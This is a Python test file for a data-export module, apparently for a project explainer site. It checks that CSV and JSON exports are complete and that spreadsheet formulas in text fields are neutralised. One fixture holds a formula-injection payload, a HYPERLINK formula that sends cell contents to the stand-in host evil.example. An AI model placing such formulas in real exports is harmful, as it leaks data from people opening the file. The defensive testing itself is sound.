from __future__ import annotations

import csv
import io
import json
import zipfile

import pandas as pd
import pytest

from stargate_explainer import COLUMNS, load
from stargate_explainer.data_export import JSON_NAME, csv_text, dataset_file, export_data


def test_writes_one_csv_per_table_and_one_json(minimal_path, tmp_path):
    written = export_data(load(minimal_path), tmp_path)
    assert sorted(p.name for p in written) == sorted([f"{t}.csv" for t in COLUMNS] + [JSON_NAME])


def test_csv_rows_match_the_frames(minimal_path, tmp_path):
    dataset = load(minimal_path)
    export_data(dataset, tmp_path)
    for table, columns in COLUMNS.items():
        csv = pd.read_csv(tmp_path / f"{table}.csv", keep_default_na=False, dtype=str)
        assert list(csv.columns) == list(columns)
        assert len(csv) == len(getattr(dataset, table))
    events = pd.read_csv(tmp_path / "events.csv", dtype=str, keep_default_na=False)
    assert events.loc[0, "date"] == "2025-01-21"
    assert events.loc[0, "source_ids"] == "src-a"


def test_json_holds_the_whole_document(minimal_path, tmp_path):
    dataset = load(minimal_path)
    export_data(dataset, tmp_path)
    document = json.loads((tmp_path / JSON_NAME).read_text("utf-8"))
    assert document["meta"]["updated"] == "2026-11-23"
    assert document["claims"][1]["text"]["ja"] == "違う。"
    assert len(document["events"]) == len(dataset.events)


def test_cli_export_data(minimal_path, tmp_path):
    from stargate_explainer.cli import main

    assert main(["export-data", str(tmp_path / "out"), "--data", str(minimal_path)]) == 0
    assert (tmp_path / "out" / "fx.csv").read_text("utf-8").startswith("date,base,quote,rate")


def test_dashboard_downloads_hold_the_whole_dataset():
    import io
    import json
    import zipfile

    from stargate_explainer import load
    from stargate_explainer.data_export import dataset_file

    dataset = load()
    name, mime, body = dataset_file(dataset, "json")
    assert (name, mime) == ("stargate.json", "application/json")
    assert len(json.loads(body)["sources"]) == len(dataset.sources)
    name, mime, body = dataset_file(dataset, "csv")
    assert name.endswith(".zip") and mime == "application/zip"
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert sorted(archive.namelist()) == sorted(f"{t}.csv" for t in dataset.table_names())
        events = archive.read("events.csv").decode("utf-8").splitlines()
        assert len(events) == len(dataset.events) + 1


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'


@pytest.fixture
def formula_dataset(minimal_path, tmp_path):
    """The minimal dataset with text that a spreadsheet would run as a formula."""
    text = minimal_path.read_text("utf-8")
    for old, new in [
        ('title: "Announcing a project"', f"title: '{FORMULA}'"),
        ('name: "Example Corp"', 'name: "+1 Corp"'),
        ('title: {en: "Announcement",', 'title: {en: "-5% on the day",'),
        ('period: "1960-1973"', 'period: "@SUM(1+1)"'),
        ("change_pct: 7.2", "change_pct: -7.2"),
    ]:
        assert old in text
        text = text.replace(old, new, 1)
    path = tmp_path / "formulas.yaml"
    path.write_text(text, encoding="utf-8")
    return load(path)


def _check_neutralised(tables: dict[str, str]) -> None:
    sources = pd.read_csv(io.StringIO(tables["sources"]), dtype=str, keep_default_na=False)
    assert sources.loc[0, "title"] == "'" + FORMULA
    assert sources.loc[0, "publisher"] == "'+1 Corp"
    events = pd.read_csv(io.StringIO(tables["events"]), dtype=str, keep_default_na=False)
    assert events.loc[0, "title_en"] == "'-5% on the day"
    comparisons = pd.read_csv(io.StringIO(tables["comparisons"]), dtype=str, keep_default_na=False)
    assert comparisons.loc[0, "period"] == "'@SUM(1+1)"
    moves = pd.read_csv(io.StringIO(tables["market_moves"]), keep_default_na=False)
    assert moves.loc[0, "change_pct"] == -7.2, "numbers stay numbers"
    for table, text in tables.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (table, cell)


def test_site_csv_files_neutralise_formulas(formula_dataset, tmp_path):
    export_data(formula_dataset, tmp_path / "out")
    tables = {t: (tmp_path / "out" / f"{t}.csv").read_text("utf-8") for t in COLUMNS}
    _check_neutralised(tables)


def test_the_dashboard_csv_zip_neutralises_formulas(formula_dataset):
    _, _, body = dataset_file(formula_dataset, "csv")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        tables = {t: archive.read(f"{t}.csv").decode("utf-8") for t in COLUMNS}
    _check_neutralised(tables)


def test_the_csv_writer_quotes_every_formula_start_and_nothing_else():
    """A lone carriage return would end the row in a spreadsheet and start the next one with
    `=b`: it is written as a newline, which the writer quotes."""
    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a\r=b", "a=b", None, "'=kept"],
            "number": [-1.5, 2.0, -3.0, 0.0, 1e9, -0.25, 7.0, 8.0, float("nan"), 1.0],
        }
    )
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows[0] == ["text", "number"]
    assert [row[0] for row in rows[1:]] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\nx", "a\n=b", "a=b", "", "'=kept",
    ]  # fmt: skip
    assert [row[1] for row in rows[1:]] == [
        "-1.5", "2.0", "-3.0", "0.0", "1000000000.0", "-0.25", "7.0", "8.0", "", "1.0",
    ]  # fmt: skip


def test_no_csv_is_written_around_the_one_writer():
    """Every CSV the package writes goes through `csv_text`: a `.to_csv(` or `csv.writer(`
    anywhere else would bypass the formula neutralising."""
    import re
    from pathlib import Path

    import stargate_explainer

    writer = re.compile(r"\.to_csv\(|csv\.(?:Dict)?[Ww]riter\(")
    found = [
        (path.name, line.strip())
        for path in sorted(Path(stargate_explainer.__file__).parent.rglob("*.py"))
        for line in path.read_text("utf-8").splitlines()
        if writer.search(line)
    ]
    assert found == [("data_export.py", 'return safe.to_csv(index=False, lineterminator="\\n")')]
